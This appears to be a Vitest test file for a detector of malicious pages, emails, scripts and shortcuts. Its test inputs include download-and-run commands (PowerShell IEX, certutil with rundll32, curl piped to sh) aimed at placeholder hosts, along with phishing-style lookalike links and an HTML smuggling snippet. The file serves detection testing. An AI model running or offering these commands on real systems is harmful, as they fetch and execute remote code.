import { describe, expect, it } from 'vitest';
import { inWords } from '../wording/in-words.ts';
import {
  analyzeSample,
  hasKeyOf,
  modelsAsked,
  processorMs,
  sha256,
  signsOf,
  toBytes,
} from './testing/analyze-sample.ts';
import { buildMail, buildShortcut, PROGRAM, WORDS } from './testing/samples.ts';

describe('pages', () => {
  it('have displayed text analyzed, not hidden text', async () => {
    const shown = await analyzeSample(`<html><body><p>${WORDS}</p></body>`, 'a.html');
    expect(modelsAsked(shown)).toEqual(['text_model']);
    const hidden = await analyzeSample(`<html><style>${WORDS}</style><script>${WORDS}</script>`, 'a.html');
    expect(modelsAsked(hidden)).toEqual([]);
  });

  it.each([
    ['a link', '<a href="https://login.example.com/x">here</a>'],
    ['a form', '<form action="https://login.example.com/x"></form>'],
    ['a redirection', '<meta http-equiv="refresh" content="0; url=https://login.example.com/x">'],
    ['a frame', '<iframe src="//login.example.com/x"></iframe>'],
    ['an entity', '<a href="https&#58;//login.example.com/x">here</a>'],
  ])('have %s looked up', async (_, html) => {
    expect(hasKeyOf(await analyzeSample(`<html>${html}`, 'a.html'), 'domain', 'login.example.com')).toBe(
      true,
    );
  });

  it('that ask for a password and send it elsewhere lead to a warning', async () => {
    const elsewhere = '<html><form action="https://a.example/p.php"><input type="password"></form>';
    expect((await analyzeSample(elsewhere, 'a.html')).findings).toContainEqual(
      expect.objectContaining({ threatType: 'credential_phishing', minimumVerdict: 'warn' }),
    );
    const unsaid = await analyzeSample('<html><form><input type="password"></form>', 'a.html');
    expect(signsOf(unsaid)).toEqual(['a page sent as a file that asks for a password']);
  });

  it.each([
    ['https://bank.example.com', 'https://other.example.org/x', true],
    ['bank.com', 'https://www.bank.com/login', false],
    ['Click here', 'https://other.example.org/x', false],
    ['bank.com', '/login', false],
  ])('that display %s and lead to %s', async (shown, href, isOther) => {
    const analysis = await analyzeSample(`<html><a href="${href}"><b>${shown}</b></a>`, 'a.html');
    expect(signsOf(analysis).includes('a link that displays one domain and leads to another')).toBe(isOther);
  });

  it.each([
    ['a link', '<a href="https://desk.example.net/x"><b>www.paypal.com</b></a>'],
    ['a link over two lines', '<a href="https://desk.example.net/x">\n  https://www.paypal.com/\n</a>'],
    [
      'a picture in a link',
      '<a href="https://desk.example.net/x"><img src="a.png" alt="www.paypal.com"></a>',
    ],
    ['the tip of a link', '<a href="https://desk.example.net/x" title="https://www.paypal.com">here</a>'],
    ['the name of a link', '<a href="https://desk.example.net/x" aria-label="www.paypal.com">here</a>'],
    ['a button in a link', '<a href="https://desk.example.net/x"><button>www.paypal.com</button></a>'],
    [
      'a button of a form',
      '<form action="https://desk.example.net/x"><button>www.paypal.com</button></form>',
    ],
    [
      'a field as a button',
      '<form action="https://desk.example.net/x"><input type="submit" value="www.paypal.com"></form>',
    ],
    [
      'a button with its own target',
      '<form><button formaction="//desk.example.net/x">www.paypal.com</button></form>',
    ],
    [
      'a link in a drawing',
      '<svg><a xlink:href="https://desk.example.net/x"><text>www.paypal.com</text></a></svg>',
    ],
  ])('that display the site of a company in %s and lead elsewhere lead to a warning', async (_, html) => {
    const page = await analyzeSample(`<html>${html}`, 'a.html');
    const mail = await analyzeSample(buildMail(['Content-Type: text/html'], html), 'a.eml');
    for (const { findings } of [page, mail])
      expect(findings).toContainEqual(
        expect.objectContaining({ threatType: 'credential_phishing', minimumVerdict: 'warn' }),
      );
  });

  it('that assemble a file by script are a finding, those with other scripts are not', async () => {
    const file = 'TVqQ'.repeat(600);
    const smuggling = `<html><script>var b=atob("${file}");var u=URL.createObjectURL(new Blob([b]))</script>`;
    expect(signsOf(await analyzeSample(smuggling, 'a.html'))).toEqual([
      'a page that assembles a file by script and offers it as a download',
    ]);
    const picture = `<html><script>var i="${file}"</script>`;
    expect(signsOf(await analyzeSample(picture, 'a.html'))).toEqual([]);
  });

  it('that are nested without end are read in part, and reported as unread', async () => {
    const page = `<html>${'<b>'.repeat(20_000)}`;
    const analysis = await analyzeSample(page, 'a.html', { limits: { timeMs: 60_000 } });
    expect(analysis.unsupported).toContain('too deeply nested');
  });
});

describe('mails', () => {
  it('have their words, links and attachments analyzed', async () => {
    const mail = buildMail(
      ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b'],
      [
        '--b',
        'Content-Type: text/html',
        '',
        `<p>${WORDS} <a href="https://login.example.com/x">here</a></p>`,
        '--b',
        'Content-Disposition: attachment; filename="scan.jpg"',
        'Content-Transfer-Encoding: base64',
        '',
        Buffer.from(PROGRAM).toString('base64'),
        '--b--',
        '',
      ].join('\r\n'),
    );
    const analysis = await analyzeSample(mail, 'a.eml');
    expect(modelsAsked(analysis).sort()).toEqual(['text_model', 'url_model']);
    expect(hasKeyOf(analysis, 'domain', 'login.example.com')).toBe(true);
    expect(hasKeyOf(analysis, 'sha256', sha256(PROGRAM))).toBe(true);
    expect(signsOf(analysis)).toContain('a program with the extension of a document or a picture');
  });

  it('are suspicious if their senders disagree', async () => {
    const other = await analyzeSample(
      buildMail(['Reply-To: x@other.example.org', 'Return-Path: <y@third.example.net>'], WORDS),
      'a.eml',
    );
    expect(other.reasons).toEqual(
      expect.arrayContaining([
        'replies go to another domain than that of its sender',
        'it was sent from another domain than that of its sender',
      ]),
    );
    const same = await analyzeSample(buildMail(['Reply-To: x@mail.bank.example'], WORDS), 'a.eml');
    expect(same.reasons.filter((reason) => inWords(reason).includes('domain'))).toEqual([]);
  });

  it('inside mails are opened as deep as files', async () => {
    const wrap = (mail: string) => buildMail(['Content-Type: message/rfc822'], mail);
    const inner = buildMail([], WORDS);
    expect(modelsAsked(await analyzeSample(wrap(inner), 'a.eml'))).toEqual(['text_model']);
    const deep = await analyzeSample(wrap(wrap(wrap(wrap(wrap(inner))))), 'a.eml');
    expect(deep.unsupported).toBe('it contains files that are nested too deeply to be read');
  });

  it.each([
    [
      'a hundred levels of parts',
      `Content-Type: multipart/mixed; boundary=b0\r\n\r\n${Array.from({ length: 100 }, (_, at) => `--b${at}\r\nContent-Type: multipart/mixed; boundary=b${at + 1}\r\n\r\n`).join('')}`,
    ],
    ['a million lines', `\r\n${'\n'.repeat(1_000_000)}`],
    [
      'ten thousand parts',
      `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\n'.repeat(10_000)}`,
    ],
  ])('of %s are reported as unread, at once', async (_, rest) => {
    const mail = `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n${rest}`;
    const busyMs = await processorMs(async () => {
      expect((await analyzeSample(mail, 'a.eml')).unsupported).toMatch(/^(?:the mail|it is a damaged)/);
    });
    expect(busyMs).toBeLessThan(500);
  });
});

describe('scripts and shortcuts', () => {
  it.each([
    ['a.ps1', 'powershell IEX (New-Object Net.WebClient).DownloadString("https://a.example.com/x")'],
    ['a.bat', 'certutil -urlcache -f https://a.example.com/x x.exe & rundll32 x.exe'],
    ['a.vbs', 'Set s=CreateObject("WScript.Shell"): Set h=CreateObject("MSXML2.XMLHTTP")'],
    ['a.ps1', `powershell -enc ${'QUFB'.repeat(20)}`],
    ['a.sh', '#!/bin/sh\ncurl https://a.example.com/x | sh'],
  ])('that download and run something lead to a warning: %s', async (name, script) => {
    expect(signsOf(await analyzeSample(script, name))).toEqual([
      'a script that downloads and runs something, or hides what it does',
    ]);
  });

  it('that do neither are a weak finding and unsupported', async () => {
    const analysis = await analyzeSample('WScript.Echo "hello"', 'a.vbs');
    expect(signsOf(analysis)).toEqual(['a script that runs when opened']);
    const fetching = await analyzeSample('#!/bin/sh\ncurl -O https://a.example.com/x', 'a.sh');
    expect(signsOf(fetching)).toEqual(['a script that runs when opened']);
    expect(analysis.unsupported).toBeDefined();
  });

  it('that are shortcuts are blocked for their command', async () => {
    const command = 'C:\\Windows\\System32\\cmd.exe /c start https://a.example.com/x';
    const analysis = await analyzeSample(buildShortcut(command), 'a.lnk');
    expect(analysis.findings).toContainEqual(
      expect.objectContaining({ threatType: 'malware', minimumVerdict: 'block' }),
    );
    expect(hasKeyOf(analysis, 'domain', 'a.example.com')).toBe(true);
    const apart = 'A..\\Windows\\cmd.exe\x23/c start x';
    expect(signsOf(await analyzeSample(buildShortcut(apart), 'a.lnk'))).toEqual([
      'a shortcut that runs a command',
    ]);
    expect(signsOf(await analyzeSample(buildShortcut('C:\\notes'), 'a.lnk'))).toEqual([
      'a shortcut sent as a file',
    ]);
  });

  it('are recognized by a name that runs; under another name the text is a text', async () => {
    const text = toBytes(WORDS);
    expect(modelsAsked(await analyzeSample(text, 'a.js'))).toEqual([]);
    expect(modelsAsked(await analyzeSample(text, 'a.txt'))).toEqual(['text_model']);
  });
});
